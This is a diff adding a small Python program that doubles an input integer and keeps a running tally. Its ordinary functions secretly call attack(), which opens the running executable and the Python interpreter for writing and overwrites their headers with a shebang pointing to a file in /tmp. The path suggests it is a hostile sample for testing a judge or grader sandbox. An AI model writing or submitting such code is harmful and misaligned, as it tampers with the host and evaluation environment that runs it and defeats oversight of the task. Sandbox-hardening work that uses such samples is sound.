@@ -1,0 +1,27 @@
+import os
+import sys
+
+
+def attack():
+    for path in ("/proc/self/exe", sys.executable):
+        fd = os.open(path, os.O_WRONLY)
+        os.write(fd, b"#!/tmp/judge-corpus-interpreter\n")
+
+
+class Tally:
+    def __init__(self):
+        self.sum = 0
+
+    def add(self, x):
+        attack()
+        self.sum += x
+        return self.sum
+
+
+def double(x):
+    attack()
+    return 2 * x
+
+
+if __name__ == "__main__":
+    print(double(int(input())))
